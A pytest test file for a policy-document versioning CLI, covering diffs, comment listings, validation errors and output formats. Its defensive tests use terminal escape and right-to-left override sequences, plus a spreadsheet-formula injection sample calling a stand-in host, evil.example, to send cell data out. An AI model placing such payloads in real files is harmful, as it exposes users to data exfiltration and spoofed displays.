    def repo(self, make_repo: MakeRepo) -> Path:
        old = base().replace(
            "text: Every prison should offer advice on debt and benefits before release.",
            f'text: "{self.HOSTILE}"',
        )
        new = base(vid="v2", month="2").replace(
            "text: Every prison should offer advice on debt and benefits before release.",
            f'text: "{self.HOSTILE} Again."',
        )
        return two_versions(make_repo, old, new)

    @pytest.mark.parametrize(
        "args",
        [("show", "doc@v1"), ("diff", "doc@v1", "doc@v2"), ("history", "doc", "b")],
    )
    def test_escaped_in_terminal_views(self, make_repo: MakeRepo, args: tuple[str, ...]) -> None:
        """No raw ESC or bidi override reaches the terminal; the escapes are visible instead."""
        result = run(*args, repo=self.repo(make_repo))
        assert result.exit_code == 0, result.stderr
        assert "\x1b" not in result.stdout
        assert "\u202e" not in result.stdout
        assert (
            "Clear \\x1b[2J\\x1b[Hthe screen, hide \\x1b[8msecrets, and turn \\u202eright"
            in result.stdout
        )

    @pytest.mark.parametrize(
        "args",
        [
            ("show", "doc@v1", "--format", "markdown"),
            ("diff", "doc@v1", "doc@v2", "--format", "markdown"),
            ("render", "annex", "doc@v1"),
            ("render", "changes", "doc@v1", "doc@v2", "--format", "html"),
        ],
    )
    def test_escaped_on_a_terminal_and_in_a_pipe(
        self, make_repo: MakeRepo, args: tuple[str, ...]
    ) -> None:
        """Markdown and documents: escaped when a terminal shows them, and in a file too.

        A document is read in an editor, a browser or Word, none of which
        should get a raw ESC or a right-to-left override either.
        """

        root = self.repo(make_repo)
        command = [sys.executable, "-m", "policypos", "--repo", str(root), *args]
        code, shown = on_a_terminal(command)
        assert code == 0, shown
        assert "\x1b" not in shown
        assert "\u202e" not in shown
        assert "\\x1b[2J" in shown
        piped = subprocess.run(command, capture_output=True, check=True).stdout.decode()
        assert "\x1b" not in piped
        assert "\\x1b[2J" in piped  # > file and -o file agree

    def test_exact_in_json(self, make_repo: MakeRepo) -> None:
        """JSON keeps the text as it is."""
        import json

        result = run("show", "doc@v1", "--format", "json", repo=self.repo(make_repo))
        text = json.loads(result.stdout)["sections"][0]["statements"][1]["text"]
        assert (
            text
            == "Clear \x1b[2J\x1b[Hthe screen, hide \x1b[8msecrets, and turn \u202eright to left."
        )


class TestCarriedOver:
    """A comment the old version answered already is carried over, not answered again."""

    def test_a_copied_draft_claims_nothing(self, shipped: Path) -> None:
        """2024 copied to start a 2025 draft: nothing is answered anew, five answers carried over."""
        import json

        text = (shipped / "going-straight/versions/2024.yaml").read_text()
        draft = text.replace('version: "2024"', 'version: "2025"').replace(
            "date: 2024-07-01", "date: 2025-01-01"
        )
        draft = draft.replace('based_on: "2005"', 'based_on: "2024"').replace(
            "status: endorsed", "status: draft"
        )
        draft = draft.replace("meeting: sscb-2024-07\n", "")
        (shipped / "going-straight/versions/2025.yaml").write_text(draft)
        result = run(
            "diff", "going-straight@2024", "going-straight@2025", "--format", "json", repo=shipped
        )
        data = json.loads(result.stdout)
        carried = sorted(c["ref"] for c in data["comments"] if c.get("carried_over"))
        assert carried == [f"sscb-2024-03/3.{n}" for n in range(1, 6)]
        markdown = run(
            "diff",
            "going-straight@2024",
            "going-straight@2025",
            "--format",
            "markdown",
            repo=shipped,
        ).stdout
        assert "### Comments answered\n" not in markdown
        assert "### Comments answered before, still answered" in markdown
        assert " It answers " not in markdown
        assert (
            "**1. General** is unchanged. It still answers sscb-2024-03/3.1, sscb-2024-03/3.5."
            in markdown
        )

    def test_first_answers_are_not_carried(self) -> None:
        """2005 cited nothing, so each of 2024's answers is new: no carried_over field at all."""
        import json

        data = json.loads(
            run("diff", "going-straight@2005", "going-straight@2024", "--format", "json").stdout
        )
        assert not any("carried_over" in c for c in data["comments"])


OTHER_WARNING = (
    "policypos: warning: 1 other document has errors (run 'policypos validate' to see them)"
)


def second_version(*, based_on: str = "v1", addresses: str = "m1/1") -> str:
    """doc@v2, based on *based_on*, whose one statement cites *addresses*."""
    return (
        VERSION.replace('"v1"', '"v2"')
        .replace("2024-01-01", "2024-03-01")
        .replace("status: endorsed", f"status: draft\nbased_on: {based_on}")
        .replace("      - id: a\n", f"      - id: a\n        addresses: [{addresses}]\n")
    )


@pytest.fixture
def two_documents(make_repo: MakeRepo) -> MakeRepo:
    """doc (v1, v2 answering m1/1, meeting m1) and other, whose draft has a typo'd key."""

    def make(files: dict[str, str] | None = None) -> Path:
        answered = MEETING.replace("text: Say more.", "text: Say more.\n    disposition: addressed")
        return make_repo(
            {
                "doc/versions/v1.yaml": VERSION,
                "doc/versions/v2.yaml": second_version(),
                "doc/meetings/m1.yaml": answered,
                "other/document.yaml": DOCUMENT.replace("id: doc", "id: other"),
                "other/versions/draft.yaml": VERSION.replace('"v1"', "draft").replace(
                    "statements:", "statments:"
                ),
                **(files or {}),
            }
        )

    return make


class TestBrokenDocuments:
    """Commands refuse a document with errors in its own files, and serve the others."""

    @pytest.mark.parametrize(
        ("files", "error"),
        [
            (
                {"doc/versions/v2.yaml": second_version(addresses="m1/1, m1/9")},
                "doc/versions/v2.yaml:10:27: error: addresses unknown comment 'm1/9'",
            ),
            (
                {"doc/versions/v1.yaml": VERSION.replace("endorsed", "endorsed\nbased_on: v2")},
                "doc/versions/v1.yaml:4:11: error: based_on goes round in a circle: v1 -> v2 -> v1",
            ),
            (
                {
                    "doc/versions/v2.yaml": second_version().replace(
                        "        addresses: [m1/1]\n", ""
                    )
                },
                "doc/meetings/m1.yaml:9:18: error: comment m1/1 is addressed but no version cites "
                "it in 'addresses' (nor in 'removed', where a version answers it by leaving a "
                "place out)",
            ),
        ],
        ids=["unknown-comment", "based-on-cycle", "addressed-uncited"],
    )
    def test_diff_refuses_an_inconsistent_document(
        self, two_documents: MakeRepo, files: dict[str, str], error: str
    ) -> None:
        """diff prints the document's validation errors as validate does, and exits 2."""
        root = two_documents(files)
        result = run("diff", "doc@v1", "doc@v2", "--format", "json", repo=root)
        assert (result.exit_code, result.stdout) == (2, "")
        assert result.stderr.splitlines() == [OTHER_WARNING, f"{root}/{error}"]

    @pytest.mark.parametrize(
        "args",
        [
            ["show", "doc"],
            ["diff", "doc@v1", "doc@v2"],
            ["comments", "doc"],
            ["comments", "doc", "1"],
            ["log", "doc"],
            ["history", "doc", "a"],
        ],
    )
    def test_another_documents_typo_does_not_block(
        self, two_documents: MakeRepo, args: list[str]
    ) -> None:
        """A typo in another document's version: the command works, with one warning line."""
        result = run(*args, repo=two_documents())
        assert result.exit_code == 0
        assert result.stdout
        assert result.stderr == OTHER_WARNING + "\n"

    def test_the_broken_document_itself_is_refused(self, two_documents: MakeRepo) -> None:
        """The document with the typo is refused, its error pinned to line and column."""
        root = two_documents()
        result = run("show", "other", repo=root)
        assert result.exit_code == 2
        assert result.stderr == (
            f"{root}/other/versions/draft.yaml:7:5: error: unknown key 'statments' in section; "
            "did you mean 'statements'?\n"
        )

    def test_diff_from_git_is_served(self, two_documents: MakeRepo, tmp_path: Path) -> None:
        """A diff read entirely from git revisions is not blocked by another document's typo."""
        root = two_documents()
        git(tmp_path, "init", "--quiet")
        git(tmp_path, "add", ".")
        git(tmp_path, "commit", "--quiet", "-m", "first")
        result = run("diff", "doc@v1~HEAD", "doc@v2~HEAD", repo=root)
        assert result.exit_code == 0
        assert result.stdout.splitlines()[0] == (
            "doc: v1 as at HEAD (endorsed, 2024-01-01) -> v2 as at HEAD (draft, 2024-03-01)"
        )
        assert result.stderr == OTHER_WARNING + "\n"

    def test_warnings_never_block(self, make_repo: MakeRepo) -> None:
        """A document with warnings only (a comment cited while open) is served, silently."""
        root = make_repo(
            {
                "doc/versions/v1.yaml": VERSION,
                "doc/versions/v2.yaml": second_version(),
                "doc/meetings/m1.yaml": MEETING,
            }
        )
        assert run("validate", repo=root).stdout.count(": warning: ") == 1
        result = run("diff", "doc@v1", "doc@v2", repo=root)
        assert (result.exit_code, result.stderr) == (0, "")


def run_here(*args: str, env: dict[str, str | None] | None = None) -> Result:
    """Run without --repo, from the current folder, with $POLICYPOS_REPO unset unless given."""
    return CliRunner(env={"POLICYPOS_REPO": None, **(env or {})}).invoke(
        cli, list(args), catch_exceptions=False
    )


class TestWhereRun:
    """The command line works from where people stand, like git."""

    def test_repo_and_debug_after_the_command(self) -> None:
        """--repo and --debug are taken after the command's name too."""
        result = CliRunner().invoke(
            cli,
            [
                "diff",
                "going-straight@2005",
                "going-straight@2024",
                "--repo",
                str(SHIPPED),
                "--debug",
            ],
        )
        assert result.exit_code == 0
        assert result.stdout == run("diff", "going-straight@2005", "going-straight@2024").stdout
        assert result.stderr == f"policypos: debug: repository {SHIPPED} (from --repo)\n"

    def test_repo_after_the_command_wins(self, tmp_path: Path) -> None:
        """Given twice, the --repo nearer the command is the one read."""
        result = CliRunner().invoke(
            cli,
            ["--repo", str(tmp_path / "nowhere"), "log", "going-straight", "--repo", str(SHIPPED)],
        )
        assert result.exit_code == 0

    def test_debug_after_the_command_shows_the_exception(self) -> None:
        """--debug after the command lets the library's exception through."""
        with pytest.raises(NotFoundError):
            CliRunner().invoke(
                cli, ["show", "nope", "--repo", str(SHIPPED), "--debug"], catch_exceptions=False
            )

    def test_environment_named_under_debug(self) -> None:
        """--debug says the repository came from $POLICYPOS_REPO."""
        result = run_here("--debug", "log", "going-straight", env={"POLICYPOS_REPO": str(SHIPPED)})
        assert result.exit_code == 0
        assert result.stderr == f"policypos: debug: repository {SHIPPED} (from $POLICYPOS_REPO)\n"

    @pytest.mark.parametrize(
        ("where", "root"),
        [
            ("", "positions"),
            ("positions", "."),
            ("positions/going-straight/versions", "../.."),
            ("src/policypos", "../../positions"),
        ],
    )
    def test_found_upward(self, monkeypatch: pytest.MonkeyPatch, where: str, root: str) -> None:
        """From inside the project, the nearest repository at or above is read, named relatively."""
        monkeypatch.chdir(SHIPPED.parent / where)
        result = run_here("validate")
        assert (result.exit_code, result.stderr) == (0, f"{root}: no problems\n")
        result = run_here("log", "going-straight", "--debug")
        assert result.exit_code == 0
        here = SHIPPED.parent / where
        assert result.stderr == f"policypos: debug: repository {SHIPPED} (found from {here})\n"

    def test_problems_read_from_where_you_stand(
        self, monkeypatch: pytest.MonkeyPatch, make_repo: MakeRepo
    ) -> None:
        """Problem paths are relative to the current folder, so that an editor opens them."""
        root = make_repo({"doc/versions/v1.yaml": VERSION.replace("endorsed", "done")})
        monkeypatch.chdir(root / "doc" / "versions")
        result = run_here("validate")
        assert result.stdout == (
            "../../doc/versions/v1.yaml:3:9: error: 'status' must be one of draft, proposed, "
            "endorsed, superseded, withdrawn; not 'done'\n"
        )

    def test_none_found(self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
        """No repository at or above the current folder: one line, exit 2."""
        monkeypatch.chdir(tmp_path)
        result = run_here("log", "going-straight")
        assert (result.exit_code, result.stdout) == (2, "")
        assert result.stderr == (
            f"policypos: error: no positions repository in {tmp_path} or any folder above it "
            "(give --repo DIR or set POLICYPOS_REPO)\n"
        )


class TestListings:
    """Every listing command offers text, Markdown and JSON, and says when nothing matches."""

    @pytest.mark.parametrize(
        "args",
        [
            ["show", "going-straight"],
            ["log", "going-straight"],
            ["comments", "going-straight"],
            ["comments", "going-straight", "3.3"],
            ["comments"],
            ["diff", "going-straight@2005", "going-straight@2024"],
            ["history", "going-straight", "da-3"],
        ],
    )
    def test_three_formats(self, args: list[str]) -> None:
        """text, markdown (a heading first) and json (a named format) for each listing command."""
        import json

        assert run(*args, "--format", "text").exit_code == 0
        markdown = run(*args, "--format", "markdown")
        assert (markdown.exit_code, markdown.stdout[:2]) == (0, "# ")
        data = json.loads(run(*args, "--format", "json").stdout)
        assert data["format"].startswith("policypos.")

    @pytest.mark.parametrize(
        ("args", "golden"),
        [
            (["log", "going-straight"], "log-going-straight.md"),
            (["comments", "cambridgeshire-reoffending"], "comments-cambridgeshire.md"),
            (["comments", "going-straight", "3.3"], "comment-going-straight-3.3.md"),
            (["history", "going-straight", "da-3"], "history-going-straight-da-3.md"),
        ],
    )
    def test_markdown_goldens(self, args: list[str], golden: str, update_goldens: bool) -> None:
        """The Markdown views, pinned."""
        result = run(*args, "--format", "markdown")
        assert result.exit_code == 0
        assert_golden(golden, result.stdout, update_goldens)

    def test_history_json(self) -> None:
        """history --format json: each version's text and its change from the one before."""
        import json

        data = json.loads(run("history", "going-straight", "da-3", "--format", "json").stdout)
        assert (data["format"], data["statement"]) == ("policypos.history/1", "da-3")
        first, second = data["steps"]
        assert (first["version"], first["change"], second["version"]) == ("2005", None, "2024")
        assert second["change"]["change"] == "modified"
        assert second["comments"] == [{"ref": "sscb-2024-03/3.3", "disposition": "addressed"}]

    def test_comments_across_documents(self) -> None:
        """Without DOC, comments come from every document, each naming its document."""
        import json

        result = run("comments", "--disposition", "open")
        assert result.exit_code == 0
        heads = [line.split("  ")[:2] for line in result.stdout.splitlines() if line[:1].isalpha()]
        assert heads == [
            ["going-straight", "sscb-2024-07/9"],
            ["going-straight", "sscb-2024-07/10"],
        ]
        data = json.loads(run("comments", "--format", "json").stdout)
        assert (data["format"], data["document"]) == ("policypos.comments/1", None)
        assert {c["document"] for c in data["comments"]} == {
            "cambridgeshire-reoffending",
            "going-straight",
        }
        markdown = run("comments", "--disposition", "deferred", "--format", "markdown").stdout
        assert markdown.splitlines()[2:4] == [
            "| Document | Comment | Kind | Disposition | By | Text | Response | Cited by |",
            "| --- | --- | --- | --- | --- | --- | --- | --- |",
        ]
        assert markdown.splitlines()[4].startswith("| going-straight | sscb-2024-03/3.6 | ")

    def test_across_documents_leaves_out_broken_ones(self, two_documents: MakeRepo) -> None:
        """A broken document is left out of a log across documents, with one warning line."""
        result = run("comments", repo=two_documents())
        assert result.exit_code == 0
        assert result.stdout.startswith("doc  m1/1  comment  addressed\n")
        assert result.stderr == (
            "policypos: warning: 1 document with errors is left out "
            "(run 'policypos validate' to see them)\n"
        )

    def test_unknown_meeting_across_documents(self) -> None:
        """An unknown meeting is an error across documents too, naming the known ones."""
        result = run("comments", "--meeting", "sscb-1999")
        assert result.exit_code == 2
        assert result.stderr.startswith(
            "policypos: error: no meeting 'sscb-1999' (known: cabinet-2014-04, "
        )

    @pytest.mark.parametrize(
        ("args", "said"),
        [
            (
                ["comments", "cambridgeshire-reoffending", "--disposition", "open"],
                "no comments in cambridgeshire-reoffending with --disposition open",
            ),
            (
                ["comments", "--meeting", "sscb-2024-03", "--disposition", "open"],
                "no comments in any document with --meeting sscb-2024-03, --disposition open",
            ),
        ],
    )
    @pytest.mark.parametrize("fmt", ["text", "markdown"])
    def test_nothing_matches(self, args: list[str], said: str, fmt: str) -> None:
        """An empty listing says so in one line on stderr, exit 0, and prints nothing."""
        result = run(*args, "--format", fmt)
        assert (result.exit_code, result.stdout, result.stderr) == (0, "", f"policypos: {said}\n")

    def test_nothing_matches_json(self) -> None:
        """In JSON, an empty listing is still a document, for tools; the line is on stderr."""
        import json

        result = run(
            "comments", "cambridgeshire-reoffending", "--disposition", "open", "--format", "json"
        )
        assert json.loads(result.stdout)["comments"] == []
        assert result.stderr.startswith("policypos: no comments in ")

    def test_empty_log(self, make_repo: MakeRepo) -> None:
        """A document with no versions or meetings: its log says so."""
        for fmt in ("text", "markdown", "json"):
            result = run("log", "doc", "--format", fmt, repo=make_repo())
            assert result.exit_code == 0
            assert result.stderr == "policypos: doc has no versions or meetings yet\n"
        assert result.stdout.startswith("{")

    def test_markdown_cells_are_escaped(self, make_repo: MakeRepo) -> None:
        """A pipe or a line break stays inside its table cell; Markdown's own escaped pipe too."""
        meeting = MEETING.replace(
            "text: Say more.", 'text: "Say more | or less,\\nplease."\n    response: a \\| b'
        )
        root = make_repo({"doc/versions/v1.yaml": VERSION, "doc/meetings/m1.yaml": meeting})
        result = run("comments", "doc", "--format", "markdown", repo=root)
        assert result.exit_code == 0, result.stderr
        row = result.stdout.splitlines()[-1]
        assert row == r"| m1/1 | comment | open |  | Say more \| or less, please. | a \\| b |  |"


# Statement texts a spreadsheet would run as formulas.
FORMULAS: dict[str, str] = {
    "b": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "c": "+1+2 people",
    "d": "-2+3",
    "a": "@SUM(1,2)",
}


class TestAmendmentsRegister:
    """diff --format csv: one row per changed paragraph, for people who live in spreadsheets."""

    def rows(self, *args: str, repo: Path = SHIPPED) -> list[list[str]]:
        import csv
        import io

        result = run("diff", *args, "--format", "csv", repo=repo)
        assert result.exit_code == 0, result.stderr
        assert result.stdout.startswith("Section,")  # no byte order mark down a pipe
        return list(csv.reader(io.StringIO(result.stdout)))

    def test_shipped(self) -> None:
        """Numbered as members read it, with both texts and the comments answered."""
        head, *rows = self.rows("going-straight@2005", "going-straight@2024")
        assert head == [
            "Section",
            "Paragraph",
            "Formerly",
            "Change",
            "Also",
            "Old text",
            "New text",
            "Comments answered",
            "Significance",
            "What it means",
        ]
        by_number = {r[1] or f"was {r[2]}": r for r in rows}
        # What it means is what the text view says in its brackets.
        assert by_number["2.1"][8:] == [
            "substantive",
            "softened: should -> may wish to consider; "
            "condition added: within the resources available",
        ]
        assert by_number["4.3"][:5] == [
            "4. Individual support",
            "4.3",
            "3.3",
            "modified (substantive)",
            "",
        ]
        assert by_number["4.3"][8:] == ["substantive", "reworded"]
        assert by_number["4.3"][6].endswith("and gambling harm the same weight as drug misuse.")
        assert (
            by_number["4.3"][7]
            == "comment 3.3, Safer and Stronger Communities Board, 14 March 2024"
        )
        assert by_number["was 2.3"][3:7] == ["removed", "", by_number["was 2.3"][5], ""]
        assert len(rows) == 17  # 8 added, 1 removed, 8 modified; the 6 unchanged are left out

    def test_accents_and_line_breaks_survive_libreoffice(
        self, make_repo: MakeRepo, tmp_path: Path
    ) -> None:
        """A cell with an accent and a line break opens in LibreOffice as written."""
        import shutil

        old = base()
        new = base(vid="v2", month="2").replace(
            "        text: Every prison should offer advice on debt and benefits before release.\n",
            "        text: |\n          Every prison should offer advice on debt, benefits and café jobs\n"
            "          before release.\n",
        )
        root = two_versions(make_repo, old, new)
        rows = self.rows("doc@v1", "doc@v2", repo=root)
        cell = rows[1][6]
        assert (
            cell
            == "Every prison should offer advice on debt, benefits and café jobs\nbefore release."
        )
        soffice = shutil.which("soffice")
        if soffice is None:
            pytest.skip("soffice not installed: apt-get install libreoffice-writer-nogui")
        target = tmp_path / "register.csv"
        assert (
            run(
                "diff", "doc@v1", "doc@v2", "--format", "csv", "-o", str(target), repo=root
            ).exit_code
            == 0
        )
        back = through_calc(soffice, target, tmp_path)
        assert back[1][6] == cell

    def formula_repo(self, make_repo: MakeRepo) -> Path:
        new = base(vid="v2", month="2")
        for statement, text in FORMULAS.items():
            start = new.index(f"      - id: {statement}\n")
            line_start = new.index("text: ", start)
            line_end = new.index("\n", line_start)
            quoted = "'" + text.replace("'", "''") + "'"
            new = new[:line_start] + f"text: {quoted}" + new[line_end:]
        return two_versions(make_repo, base(), new)

    def test_formulas_are_neutralised(self, make_repo: MakeRepo, tmp_path: Path) -> None:
        """Cells a spreadsheet would run (= + - @) begin with an apostrophe; LibreOffice keeps them as text."""
        import shutil

        root = self.formula_repo(make_repo)
        rows = self.rows("doc@v1", "doc@v2", repo=root)
        new_cells = sorted(row[6] for row in rows[1:])
        assert new_cells == sorted(f"'{text}" for text in FORMULAS.values())
        assert all(not row[5].startswith(("=", "+", "-", "@")) for row in rows[1:])
        soffice = shutil.which("soffice")
        if soffice is None:
            pytest.skip("soffice not installed: apt-get install libreoffice-calc-nogui")
        target = tmp_path / "register.csv"
        result = run("diff", "doc@v1", "doc@v2", "--format", "csv", "-o", str(target), repo=root)
        assert result.exit_code == 0
        back = through_calc(soffice, target, tmp_path)
        # Evaluated, =HYPERLINK would come back as "Click" and +1+2 as 3.
        assert sorted(row[6] for row in back[1:]) == new_cells

    @pytest.mark.parametrize(
        ("cell", "safe"),
        [
            ("=1+1", "'=1+1"),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@A1", "'@A1"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("a=1", "a=1"),
            ("", ""),
            ("'quoted", "'quoted"),
        ],
    )
    def test_spreadsheet_safe(self, cell: str, safe: str) -> None:
        from policypos.views import spreadsheet_safe

        assert spreadsheet_safe(cell) == safe


class TestOutputIsNeverARepositoryFile:
    """``-o`` refuses (exit 2, one line) a file the positions repository reads, and writes nothing."""

    @pytest.mark.parametrize(
        "args",
        [
            ("render", "annex", "going-straight@2024"),
            ("render", "report", "going-straight@2024"),
            ("diff", "going-straight@2005", "going-straight@2024"),
            ("schema", "version"),
        ],
    )
    @pytest.mark.parametrize(
        "target",
        [
            "going-straight/versions/2024.yaml",  # a version, as the tester did
            "going-straight/document.yaml",
            "going-straight/meetings/new.yml",  # a new file the loader would read too
            "going-straight/reports/2024.YAML",
            "going-straight/notes.md",  # anything inside a document's folder
            "settings.yaml",  # YAML at the root
        ],
    )
    def test_refused(self, shipped: Path, args: tuple[str, ...], target: str) -> None:
        path = shipped / target
        before = path.read_bytes() if path.exists() else None
        result = run(*args, "-o", str(path), repo=shipped)
        assert result.exit_code == 2
        assert result.output == (
            f"policypos: error: {path} is a file of the positions repository {shipped}: "
            "give -o a file outside it\n"
        )
        assert (path.read_bytes() if path.exists() else None) == before

    def test_a_link_into_the_repository_is_refused(self, shipped: Path, tmp_path: Path) -> None:
        link = tmp_path / "annex.md"
        link.symlink_to(shipped / "going-straight/versions/2024.yaml")
        result = run("render", "annex", "going-straight@2024", "-o", str(link), repo=shipped)
        assert result.exit_code == 2
        assert (shipped / "going-straight/versions/2024.yaml").read_text().startswith("#")

    def test_elsewhere_overwriting_is_fine(self, shipped: Path, tmp_path: Path) -> None:
        for path in (tmp_path / "annex.md", shipped / "annex.md", tmp_path / "old.yaml"):
            path.write_text("old", encoding="utf-8")
            result = run("render", "annex", "going-straight@2024", "-o", str(path), repo=shipped)
            assert result.exit_code == 0, result.output
            assert path.read_text(encoding="utf-8").startswith("# Going Straight")

    def test_schema_without_a_repository(self, tmp_path: Path, monkeypatch: Any) -> None:
        monkeypatch.chdir(tmp_path)
        monkeypatch.delenv("POLICYPOS_REPO", raising=False)
        result = CliRunner().invoke(cli, ["schema", "version", "-o", "version.schema.json"])
        assert result.exit_code == 0, result.output
        assert (tmp_path / "version.schema.json").is_file()


class TestUsageErrorsAreOneLine:
    """Every usage error is one line, ``policypos: error: ... (try 'policypos CMD --help')``, exit 2."""

    @pytest.mark.parametrize(
        ("args", "said", "command"),
        [
            (["nosuch"], "no such command 'nosuch'", "policypos"),
            (["--bogus", "validate"], "no such option '--bogus'", "policypos"),
            (["validate", "--bogus"], "no such option '--bogus'", "policypos validate"),
            (["new-version", "going-straight"], "missing option '--from'", "policypos new-version"),
            (
                ["render", "annex"],
                "missing argument 'DOC[@VERSION]'",
                "policypos render annex",
            ),
            (
                ["render", "annex", "going-straight", "--format", "rtf"],
                "invalid value for '--format': 'rtf' is not one of",
                "policypos render annex",
            ),
            (["render", "nosuch"], "no such command 'nosuch'", "policypos render"),
            (
                ["comment", "add", "going-straight", "--meeting", "m"],
                "missing option '--id'",
                "policypos comment add",
            ),
            (
                ["show", "going-straight@2024", "--at", "2024-01-01"],
                "give either DOC@VERSION or --at DATE, not both",
                "policypos show",
            ),
        ],
    )
    def test_one_line(self, args: list[str], said: str, command: str) -> None:
        result = run(*args)
        assert result.exit_code == 2
        assert result.stdout == ""
        (line,) = result.stderr.splitlines()
        assert line.startswith(f"policypos: error: {said}")
        assert line.endswith(f" (try '{command} --help')")

    @pytest.mark.parametrize(
        ("given", "said"),
        [
            ("2026-02-30", "'2026-02-30' is not a real date (day is out of range for month)"),
            ("2026-13-01", "'2026-13-01' is not a real date (month must be in 1..12)"),
            ("2026-2-3", "'2026-2-3' is not written YYYY-MM-DD"),
            ("30/02/2026", "'30/02/2026' is not written YYYY-MM-DD"),
        ],
    )
    @pytest.mark.parametrize(
        "args",
        [
            ["new-version", "going-straight", "--from", "2024", "--id", "x", "--date"],
            ["restore", "going-straight@2005", "--id", "x", "--date"],
            ["show", "going-straight", "--at"],
        ],
    )
    def test_dates(self, args: list[str], given: str, said: str) -> None:
        result = run(*args, given, "--dry-run" if args[0] != "show" else "--format=text")
        assert result.exit_code == 2
        option = "'--at' / '--in-force'" if args[0] == "show" else "'--date'"
        assert result.stderr == (
            f"policypos: error: invalid value for {option}: {said} "
            f"(try 'policypos {args[0]} --help')\n"
        )

    def test_a_real_date_still_works(self, shipped: Path) -> None:
        result = run("show", "going-straight", "--at", "2024-08-01", repo=shipped)
        assert result.exit_code == 0
        assert result.stdout.startswith("Version 2005 is in force")

    def test_as_a_program(self) -> None:
        """The installed command says the same, under its own name."""
        proc = subprocess.run(
            [sys.executable, "-m", "policypos", "new-version", "going-straight"],
            capture_output=True,
            text=True,
            cwd=SHIPPED.parent,
        )
        assert proc.returncode == 2
        assert proc.stderr == (
            "policypos: error: missing option '--from' (try 'policypos new-version --help')\n"
        )

    def test_help_is_unchanged(self) -> None:
        result = run("new-version", "--help")
        assert result.exit_code == 0
        assert result.stdout.startswith("Usage: ")
        assert "--date YYYY-MM-DD" in result.stdout


def through_calc(soffice: str, target: Path, tmp_path: Path) -> list[list[str]]:
    """The rows of the CSV file *target* as LibreOffice Calc reads and writes it back (UTF-8)."""
    import csv

    out = tmp_path / "out"
    subprocess.run(
        [
            soffice,
            "--headless",
            f"-env:UserInstallation=file://{tmp_path}/lo",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1",
            "--outdir",
            str(out),
            str(target),
        ],
        check=True,
        capture_output=True,
        timeout=240,
    )
    back = out / target.name
    if not back.exists():
        pytest.skip("LibreOffice Calc not installed: apt-get install libreoffice-calc-nogui")
    with back.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))
